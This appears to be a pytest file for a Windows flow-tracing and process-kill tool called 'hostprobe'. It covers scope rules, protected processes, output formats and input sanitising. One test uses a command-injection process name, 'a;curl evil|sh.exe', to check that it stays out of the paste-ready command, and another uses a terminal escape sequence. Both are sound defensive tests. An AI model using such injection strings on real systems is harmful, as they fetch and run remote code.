"""Tracing a flow on scripted hosts: who is asked, what is written, and the code."""

import json
import signal
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Protocol

import pytest
from tests.unit.cli import program
from tests.unit.cli.program import Ended
from tests.unit.cli.script import Host, Script, host, host_while, said

from hostprobe import cli
from hostprobe.analysis.trace import Side, Wanted, wanted
from hostprobe.cli.options import ManyOptions
from hostprobe.cli.traced import Traced
from hostprobe.cli.tracing import trace_flow
from hostprobe.errors import (
    BadCredentialsError,
    ConnectionLostError,
    HostError,
    OutsideScopeError,
    RefusedError,
)
from hostprobe.evidence.flows import Flow
from hostprobe.inventory.targets import Target
from hostprobe.sweep import Failed

A, B = "10.0.0.5", "10.0.0.9"
FLOW = Wanted(source=Side(A, 50123), destination=Side(B, 443))
_HEAD = "  Proto  Local Address  Foreign Address  State  PID\r\n"
MINE = f"{_HEAD}  TCP    {A}:50123    {B}:443    ESTABLISHED    432\r\n"
THEIRS = f"{_HEAD}  TCP    {B}:443    {A}:50123    ESTABLISHED    912\r\n"
IDLE = f"{_HEAD}  TCP    0.0.0.0:135    0.0.0.0:0    LISTENING    912\r\n"
HOSTED = '"sqlservr.exe","912","MSSQLSERVER"\r\n"victim.exe","432","N/A"\r\n'


class Traces(Protocol):
    """Traces a flow on scripted hosts."""

    def __call__(  # noqa: PLR0913 - as many ways as there are to trace
        self,
        hosts: Mapping[str, Host],
        written: str = "table",
        *,
        flow: Wanted = FLOW,
        is_typed: bool = True,
        scope: tuple[str, ...] = (),
        never: tuple[str, ...] = (),
        inventory: Path | None = None,
        columns: str | None = None,
        output: Path | None = None,
        receipt: Path | None = None,
        quiet: bool = True,
    ) -> Ended:
        """Trace it."""


@pytest.fixture
def traced(said: program.Said) -> Traces:
    """The program, from the flow on."""

    def run(  # noqa: PLR0913 - as above
        hosts: Mapping[str, Host],
        written: str = "table",
        *,
        flow: Wanted = FLOW,
        is_typed: bool = True,
        scope: tuple[str, ...] = (),
        never: tuple[str, ...] = (),
        inventory: Path | None = None,
        columns: str | None = None,
        output: Path | None = None,
        receipt: Path | None = None,
        quiet: bool = True,
    ) -> Ended:
        options = (
            replace(program.host_options(), scope=list(scope), never=list(never)),
            ManyOptions(jobs=1, inventory=inventory),
            replace(
                program.output_options(written, quiet=quiet),
                columns=columns,
                output=output,
                receipt=receipt,
            ),
        )
        return said(
            cli._ended(lambda: trace_flow(flow, options, is_typed=is_typed, opener=Script(hosts)))
        )

    return run


def source(netstat: str = MINE, hosted: str = HOSTED) -> Host:
    """A host that has one side of the connection."""
    return host(said(netstat, hosted, name="WS081"), address=A)


def destination(netstat: str = THEIRS, hosted: str = HOSTED) -> Host:
    """A host that has the other one."""
    return host(said(netstat, hosted, name="DB02"), address=B)


def test_both_ends(traced: Traces) -> None:
    """One line names both processes, then each end and the commands that end them."""
    ended = traced({A: source(), B: destination()})
    lines = ended.stdout.splitlines()
    assert ended.code == 0
    assert lines[0] == (
        f"{A}:50123 victim.exe (PID 432) -> {B}:443 sqlservr.exe (PID 912)   tcp ESTABLISHED"
    )
    assert f"source {A}, WS081, asked" in ended.stdout
    assert "  services    MSSQLSERVER" in lines
    assert lines[-3:] == [
        "To end a process, after a plan and a yes:",
        f'  hostprobe kill {A} -u "CORP\\ops" --pid 432 --expect victim.exe',
        f'  hostprobe kill {B} -u "CORP\\ops" --pid 912 --expect sqlservr.exe',
    ]


def test_the_line_to_paste_leaves_out_what_the_environment_says(
    traced: Traces, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where HOSTPROBE_USERNAME names the account anyway, the command does not."""
    monkeypatch.setenv("HOSTPROBE_USERNAME", program.USER)
    ended = traced({A: source(), B: destination()})
    assert f"  hostprobe kill {A} --pid 432 --expect victim.exe" in ended.stdout.splitlines()


def test_a_name_that_is_no_plain_one_is_in_no_command(traced: Traces) -> None:
    """What a host calls its process never reaches the line that is to be pasted."""
    hosted = '"a;curl evil|sh.exe","432","N/A"\r\n'
    ended = traced({A: source(hosted=hosted), B: destination()})
    assert f'  hostprobe kill {A} -u "CORP\\ops" --pid 432' in ended.stdout.splitlines()


@pytest.mark.parametrize(
    "hosted",
    ['"lsass.exe","432","N/A"\r\n', '"svchost.exe","432","RpcSs"\r\n', '"x.exe","1","N/A"\r\n'],
)
def test_no_command_for_what_kill_refuses(traced: Traces, hosted: str) -> None:
    """Of processes that Windows needs, and of those that are gone, no command is shown."""
    ended = traced({A: source(hosted=hosted), B: destination()})
    assert "--pid 912" in ended.stdout
    assert "--pid 432" not in ended.stdout


def test_the_process_is_gone(traced: Traces) -> None:
    """Its PID is shown, and that no such process is in the list."""
    ended = traced({A: source(hosted='"x.exe","1","N/A"\r\n'), B: destination()})
    assert f"{A}:50123 (PID 432, name unknown) -> " in ended.stdout
    assert "no process 432 in the list: it may have ended" in ended.stdout
    assert ended.code == 0


DETAILS = "".join(
    f"{line}\n"
    for line in (
        "H\t1\t133511760000000000\t10.0\t5.1",
        f"C\t{A}\t50123\t{B}\t443\t432\tCREATED",
        "P\t7\t\texplorer.exe\t8\t1\t20\t1\t1\t0\t0\t20240131110000.000000+000\t1\t\t\t",
        r"P\t432\tPARENT\tvictim.exe\t8\t1\t20\t1\t1\t0\t0\t20240131115800.000000+000\t1"
        r"\tLAB\anna\tC:\victim.exe\tvictim.exe -q".replace(r"\t", "\t"),
        "E\t2",
        "==hostprobe:powershell:0==",
    )
)


def detailed(*, parent: int, created: str) -> Host:
    """A host whose PowerShell tells more of the process and of the connection."""
    text = DETAILS.replace("PARENT", str(parent)).replace("CREATED", created)
    return host(said(MINE, HOSTED, name="WS081") + text.encode(), address=A)


@pytest.mark.parametrize(("parent", "told"), [(7, "7 explorer.exe"), (8, "8 (ended)")])
def test_details(traced: Traces, parent: int, told: str) -> None:
    """What PowerShell knows of a process stands below its name."""
    there = detailed(parent=parent, created="20240131115900.000000+000")
    lines = traced({A: there, B: destination()}).stdout.splitlines()
    assert f"{A}:50123 victim.exe (PID 432, LAB\\anna) -> " in lines[0]
    assert lines[0].endswith("   tcp ESTABLISHED since 2024-01-31 11:59:00 UTC")
    at = lines.index("  process     432 victim.exe")
    assert lines[at + 1 : at + 6] == [
        "  started     2024-01-31 11:58:00 UTC",
        "  path        C:\\victim.exe",
        "  command     victim.exe -q",
        "  user        LAB\\anna",
        f"  parent      {told}",
    ]


def test_a_recycled_pid(traced: Traces) -> None:
    """A process that is younger than the connection is none to be ended for it."""
    there = detailed(parent=7, created="20240131110000.000000+000")
    ended = traced({A: there, B: destination()})
    assert "its PID was another's then" in ended.stdout
    assert "--pid 432" not in ended.stdout
    assert "--pid 912" in ended.stdout


def test_no_list_of_processes(traced: Traces) -> None:
    """Where the names are unknown, the PIDs are shown, and no command."""
    there = said(MINE, HOSTED).replace(b"services:0", b"services:1")
    ended = traced({A: host(there, address=A), B: destination()})
    assert f"{A}:50123 (PID 432, name unknown) -> " in ended.stdout
    assert "--pid 432" not in ended.stdout


def test_names(traced: Traces) -> None:
    """Hosts that were typed by name are known by where they were asked."""
    flow = replace(FLOW, source=Side("ws081", 50123), destination=Side("db02", 443))
    ended = traced({"ws081": source(), "db02": destination()}, flow=flow)
    assert ended.code == 0
    assert f"{A}:50123 victim.exe (PID 432) -> {B}:443 sqlservr.exe (PID 912)" in ended.stdout


def test_no_pid(traced: Traces) -> None:
    """A listing without a PID names no owner."""
    rows = MINE.replace("  432", "").replace("  PID", "")
    ended = traced({A: source(rows), B: destination()})
    assert f"{A}:50123 (owner unknown) -> " in ended.stdout


def test_one_end_is_dead(traced: Traces) -> None:
    """The other end's process is shown, and why nothing is known of the dead one; code 3."""
    error = RefusedError(f"{B}: refused: the host is up, but nothing listens on TCP port 445")
    ended = traced({A: source(), B: error})
    assert ended.code == 3
    assert "victim.exe (PID 432) -> 10.0.0.9:443 (did not answer)" in ended.stdout
    assert f"destination {B}: refused: the host is up" in ended.stdout
    assert "is it a Windows host?" in ended.stdout


def test_both_ends_are_dead(traced: Traces) -> None:
    """That is code 4."""
    ended = traced({A: ConnectionLostError("lost"), B: RefusedError("refused")})
    assert ended.code == 4
    assert ended.stdout.startswith(f"{A}:50123 -> {B}:443   tcp\n  unknown: neither end answered\n")


def test_the_other_end_alone(traced: Traces) -> None:
    """Where only the destination has it, the line is made of what that has."""
    ended = traced({A: RefusedError("refused"), B: destination()})
    assert ended.stdout.startswith(f"{A}:50123 (did not answer) -> {B}:443 sqlservr.exe")


def test_nothing_found(traced: Traces) -> None:
    """That nobody has it is code 1, with the reasons there may be, and who listens."""
    ended = traced({A: source(IDLE), B: destination(IDLE.replace("135", "443"))})
    assert ended.code == 1
    assert "  not found: it was short-lived, went through NAT" in ended.stdout
    assert "  listener    912 sqlservr.exe" in ended.stdout.splitlines()
    assert "hostprobe kill" not in ended.stdout


def test_the_same_ports_elsewhere(traced: Traces) -> None:
    """Who has the ports with another address is shown, for NAT may be why."""
    ended = traced({A: source(IDLE), B: destination(THEIRS.replace(A, "198.51.100.7"))})
    assert "  same ports  912 sqlservr.exe" in ended.stdout.splitlines()
    assert "  with        198.51.100.7:50123" in ended.stdout.splitlines()
    assert "hostprobe kill" not in ended.stdout


def test_a_closed_connection(traced: Traces) -> None:
    """In TIME_WAIT it is the flow's, and nobody's."""
    closed = MINE.replace("ESTABLISHED", "TIME_WAIT").replace("432", "0")
    ended = traced({A: source(closed), B: destination(IDLE)})
    assert ended.code == 0
    assert f"{A}:50123 (closed, owner gone) -> {B}:443 (not in its netstat)" in ended.stdout
    assert "kill" not in ended.stdout


def test_a_refused_log_in(traced: Traces) -> None:
    """The account is not tried at the other end; code 5."""
    ended = traced({A: BadCredentialsError("wrong password"), B: destination()})
    assert ended.code == 5
    assert f"destination {B}: not asked: CORP\\ops failed to log in" in ended.stdout


def test_json(traced: Traces) -> None:
    """Each host's sockets come with its record, which has what a page says beside them."""
    ended = traced({A: source(), B: destination(IDLE)}, "json", quiet=False)
    (found,) = ended.records("trace")
    assert (found["host"], found["end"], found["number"]) == (A, "source", 1)
    assert (found["finding"], found["process"]) == ("connection", "victim.exe")
    assert "lacks what the other end lists" in str(ended.hosts[B]["notes"])
    assert ended.hosts[B]["rows"] == 0
    assert f"{B}: its netstat lacks what the other end lists" in ended.stderr


def test_json_of_ends_that_did_not_answer(traced: Traces) -> None:
    """Each has its record with the reason."""
    flow = replace(FLOW, destination=Side("203.0.113.17", 443))
    ended = traced({A: RefusedError("refused")}, "json", flow=flow)
    assert ended.hosts[A]["status"] == "failed"
    assert ended.hosts["203.0.113.17"]["status"] == "not_asked"
    assert program.error(ended.hosts["203.0.113.17"])["kind"] == "outside_scope"


def test_a_table_of_columns(traced: Traces) -> None:
    """--columns make a table of it."""
    ended = traced({A: source(), B: destination()}, columns="host,pid")
    assert [line.split() for line in ended.stdout.splitlines()[2:]] == [[A, "432"], [B, "912"]]


def test_a_table_of_one_end(traced: Traces) -> None:
    """What a page says beside the sockets is said on stderr, and who failed stands below."""
    error = RefusedError(f"{B}: refused")
    ended = traced({A: source(IDLE), B: error}, columns="host,pid", quiet=False)
    assert f"{B}: failed: refused" in ended.stdout
    assert f"{A}: no such connection now" in ended.stderr


def test_to_a_file(traced: Traces, tmp_path: Path) -> None:
    """With -o the page goes there."""
    ended = traced({A: source(), B: destination()}, output=tmp_path / "page.txt")
    assert ended.stdout == ""
    assert "victim.exe (PID 432) -> " in (tmp_path / "page.txt").read_text("utf-8")


def test_what_is_left_behind(traced: Traces) -> None:
    """It is named, and code 7."""
    left = host(said(MINE, HOSTED), left=("file X",), address=A)
    ended = traced({A: left, B: destination()})
    assert ended.code == 7
    assert f"{A}: left behind: file X" in ended.stderr


def test_one_host_is_asked_once(traced: Traces) -> None:
    """A host that is both ends is asked once, and answers for both."""
    flow = Wanted(source=Side(A, 50123), destination=Side(A))
    row = MINE.replace(f"{B}:443", f"{A}:443") + MINE.replace(
        f"{A}:50123    {B}:443    ESTABLISHED    432", f"{A}:443    {A}:50123    ESTABLISHED    912"
    ).removeprefix(_HEAD)
    ended = traced({A: source(row)}, "json", flow=flow)
    assert [(each["end"], each["pid"]) for each in ended.records("trace")] == [
        ("source", 432),
        ("destination", 912),
    ]
    assert len(ended.hosts) == 1


PUBLIC = replace(FLOW, destination=Side("203.0.113.17", 443))
OUTWARD = MINE.replace(B, "203.0.113.17")


def test_a_public_address_is_not_asked(traced: Traces) -> None:
    """A stranger gets no log-in; that is no failure."""
    ended = traced({A: source(OUTWARD)}, flow=PUBLIC)
    assert ended.code == 0
    assert "victim.exe (PID 432) -> 203.0.113.17:443 (not asked)" in ended.stdout
    assert "only with --scope 203.0.113.17" in ended.stdout


def test_a_public_address_in_the_scope(traced: Traces) -> None:
    """What the user says is his is asked."""
    there = host(said(THEIRS.replace(B, "203.0.113.17"), HOSTED), address="203.0.113.17")
    hosts = {A: source(OUTWARD), "203.0.113.17": there}
    ended = traced(hosts, flow=PUBLIC, scope=("10.0.0.0/8", "203.0.113.17"))
    assert "203.0.113.17:443 sqlservr.exe (PID 912)" in ended.stdout


@pytest.mark.parametrize(
    ("scope", "never", "is_typed"),
    [(("10.0.0.5",), (), True), ((), ("10.0.0.9",), True), (("10.0.0.5",), (), False)],
)
def test_outside_scope(
    traced: Traces, scope: tuple[str, ...], never: tuple[str, ...], *, is_typed: bool
) -> None:
    """An end outside the scope is not asked, however it was named."""
    ended = traced({A: source()}, scope=scope, never=never, is_typed=is_typed)
    assert ended.code == 0
    assert f"destination {B}: not asked: outside scope" in ended.stdout


@pytest.mark.parametrize(
    ("peer", "way_out"),
    [
        (B, f"--scope {A} --scope {B}\n"),
        ("203.0.113.9", f"--scope {A}\n"),
    ],
)
def test_a_flow_of_a_listing_needs_a_scope(traced: Traces, peer: str, way_out: str) -> None:
    """Addresses out of a listing are nobody's word: without a scope nobody is asked."""
    flow = wanted(Flow("Tu0", A, "Fa0/0", peer, 6, 50123, 443, 6))
    ended = traced({}, flow=flow, is_typed=False)
    assert ended.code == 6
    assert "asked only inside --scope" in ended.complaint
    assert ended.complaint.endswith(way_out)


def test_a_flow_between_strangers_needs_a_scope(traced: Traces) -> None:
    """No public address is put into the option that would allow it."""
    flow = wanted(Flow("Tu0", "203.0.113.8", "Fa0/0", "203.0.113.9", 6, 50123, 443, 6))
    assert traced({}, flow=flow, is_typed=False).complaint.endswith("add --scope CIDR\n")


def test_a_flow_of_a_listing(traced: Traces) -> None:
    """Inside the scope its ends are asked, and its packets and its tunnel are told."""
    flow = wanted(Flow("Tu0", A, "Fa0/0", B, 6, 50123, 443, 1234))
    hosts = {A: source(), B: destination()}
    ended = traced(hosts, flow=flow, is_typed=False, scope=("10.0.0.0/8",))
    assert ended.stdout.splitlines()[0].endswith("tcp ESTABLISHED, packets: 1,234")
    assert ended.stdout.splitlines()[1].startswith("  seen at the tunnel Tu0")


@pytest.mark.parametrize("address", ["224.0.0.251", "255.255.255.255", "::", "ff02::fb"])
def test_no_host_has_such_an_address(traced: Traces, address: str) -> None:
    """Groups and everybody are not asked."""
    ended = traced({A: source(IDLE)}, flow=replace(FLOW, destination=Side(address, 443)))
    assert f"destination {address}: not asked: no address of one host" in ended.stdout


def test_udp(traced: Traces) -> None:
    """Sockets of UDP are named by the flow's own addresses."""
    rows = f"{_HEAD}  UDP    0.0.0.0:5353    *:*    432\r\n"
    flow = Wanted(source=Side(A, 5353), destination=Side(B), protocol="udp")
    ended = traced({A: source(rows), B: destination()}, flow=flow)
    assert ended.stdout.startswith(f"{A}:5353 victim.exe (PID 432) -> {B} (")
    assert ended.stdout.splitlines()[0].endswith("   udp")


def test_an_ipv6_flow(traced: Traces) -> None:
    """Its addresses stand in brackets where a port follows."""
    flow = Wanted(source=Side("fd00::5"), destination=Side("fd00::9", 443))
    rows = f"{_HEAD}  TCP    [fd00::5]:50123    [fd00::9]:443    ESTABLISHED    432\r\n"
    ended = traced({"fd00::5": source(rows), "fd00::9": destination(IDLE)}, flow=flow)
    assert ended.stdout.startswith("[fd00::5]:50123 victim.exe (PID 432) -> [fd00::9]:443 (not in")
    assert "hostprobe kill fd00::5 " in ended.stdout


def test_no_shell_takes_an_address_for_a_pattern(traced: Traces, tmp_path: Path) -> None:
    """An IPv6 address with a port is quoted in the line to paste."""
    hosts = tmp_path / "inventory.toml"
    hosts.write_text("[groups.g]\nhosts = ['[fd00::5]:4450']\n")
    flow = replace(FLOW, source=Side("fd00::5", 50123))
    rows = f"{_HEAD}  TCP    [fd00::5]:50123    {B}:443    ESTABLISHED    432\r\n"
    there = {"fd00::5": source(rows), B: destination()}
    ended = traced(there, flow=flow, inventory=hosts)
    assert 'hostprobe kill "[fd00::5]:4450" ' in ended.stdout


def test_many_connections(traced: Traces) -> None:
    """A screen full of them is shown, by as many processes, and how many more there are."""
    ports = range(50000, 50030)
    rows = "".join(f"  TCP  {A}:{port}  {B}:443  ESTABLISHED  {port}\r\n" for port in ports)
    hosted = "".join(f'"p{port}.exe","{port}","N/A"\r\n' for port in ports)
    flow = Wanted(source=Side(A), destination=Side(B))
    ended = traced({A: source(_HEAD + rows, hosted), B: destination(IDLE)}, flow=flow)
    lines = ended.stdout.splitlines()
    assert sum(f"-> {B}:443 (not in its netstat)" in line for line in lines) == 20
    assert "and 10 more; -f json has them" in lines
    assert sum(line.startswith("  process ") for line in lines) == 10
    assert f"  {'':<12}and 20 more; -f json has them" in lines


def test_lines_that_nobody_understood(traced: Traces) -> None:
    """They are counted."""
    ended = traced({A: source(MINE + "what is this\r\n"), B: destination()})
    assert "  note        lines not understood: 1; -f json has them" in ended.stdout.splitlines()


def test_hostile_text(traced: Traces, tmp_path: Path) -> None:
    """What a host calls its process is bounded, and reaches no terminal and no file as it is."""
    hosted = f'"\x1b[2J{"x" * 500}","432","N/A"\r\n'
    ended = traced({A: source(hosted=hosted), B: destination()})
    traced({A: source(hosted=hosted), B: destination()}, output=tmp_path / "page.txt")
    for text in (ended.stdout, (tmp_path / "page.txt").read_text("utf-8")):
        assert "\x1b" not in text
        assert "\\x1b[2Jxx" in text
        assert "x" * 450 not in text


def test_inventory(traced: Traces, tmp_path: Path) -> None:
    """The inventory's names stand for addresses."""
    path = tmp_path / "inventory.toml"
    path.write_text(f"[groups.g]\nhosts = ['ws081']\n[aliases]\n{json.dumps(A)} = 'ws081'\n")
    flow = replace(FLOW, source=Side("ws081", 50123))
    ended = traced({A: source(), "ws081": source(), B: destination()}, flow=flow, inventory=path)
    assert ended.code == 0
    assert "source ws081, WS081, asked" in ended.stdout


def test_the_line_to_paste_needs_no_inventory(traced: Traces, tmp_path: Path) -> None:
    """It has the address of an alias, and the account of the host, that the inventory has."""
    path = tmp_path / "inventory.toml"
    group = f"[groups.g]\nhosts = ['{A}']\nuser = 'corp\\OPS'\n"
    path.write_text(f"{group}[aliases]\n{json.dumps(A)} = 'ws081'\n")
    flow = replace(FLOW, source=Side("ws081", 50123))
    hosted = '"my agent.exe","432","N/A"\r\n'
    ended = traced({A: source(hosted=hosted), B: destination()}, flow=flow, inventory=path)
    line = f'  hostprobe kill {A} -u "corp\\OPS" --pid 432 --expect "my agent.exe"'
    assert line in ended.stdout.splitlines()


def test_aliases(traced: Traces, tmp_path: Path) -> None:
    """The user's names stand for addresses on the page, and beside them in the records."""
    (tmp_path / "aliases").write_text(f"{A} exch01\n{B} db02\n", "utf-8")
    flow = replace(FLOW, source=Side("exch01", 50123))
    hosts = {A: source(), B: destination()}
    ended = traced(hosts, flow=flow, quiet=False)
    assert f"exch01 is {A} (alias)" in ended.stderr
    assert "exch01:50123 victim.exe (PID 432) -> db02:443 sqlservr.exe (PID 912)" in ended.stdout
    assert f"hostprobe kill {A} " in ended.stdout
    rows = traced({A: source(), B: destination()}, "json", flow=flow).records("trace")
    assert [(row["local_address"], row["local_alias"]) for row in rows] == [
        (A, "exch01"),
        (B, "db02"),
    ]


def test_a_receipt(traced: Traces, tmp_path: Path) -> None:
    """--receipt has what was put on the ends, and is no other file of the run."""
    path = tmp_path / "receipt.json"
    traced({A: source(), B: destination()}, receipt=path)
    assert f'"target": "{B}"' in path.read_text("utf-8")
    ended = traced({}, receipt=path, output=path)
    assert ended.code == 2
    assert "is used for something else" in ended.complaint


def test_two_hosts_are_announced(traced: Traces) -> None:
    """Unless nothing is to be said, it is told as whom they are asked and what they log."""
    ended = traced({A: source(), B: destination()}, quiet=False)
    assert "2 hosts as CORP\\ops, 1 at a time" in ended.stderr


def test_names_outside_the_scope() -> None:
    """Where both names turn out to be outside of it, that is code 6."""
    targets = (Target("ws081"), Target("db02"))
    failed = (Failed(each, OutsideScopeError(f"{each}: outside scope"), 0.1) for each in targets)
    assert Traced.of(FLOW, targets, failed).exit_code(is_interrupted=False) == 6


def test_interrupted(traced: Traces) -> None:
    """After Ctrl-C the other end is not asked, and what is there is written; code 130."""
    busy = host_while(lambda: signal.raise_signal(signal.SIGINT), said(MINE, HOSTED))
    ended = traced({A: busy, B: destination()})
    assert ended.code == 130
    assert "victim.exe (PID 432) -> 10.0.0.9:443 (not asked)" in ended.stdout
    assert f"destination {B}: not asked: the run was stopped" in ended.stdout


def test_an_error_of_a_host_that_is_none_of_ours(traced: Traces) -> None:
    """An error without an address leaves the end known by its name alone."""
    ended = traced({A: source(), B: HostError("odd")})
    assert f"destination {B}: odd" in ended.stdout
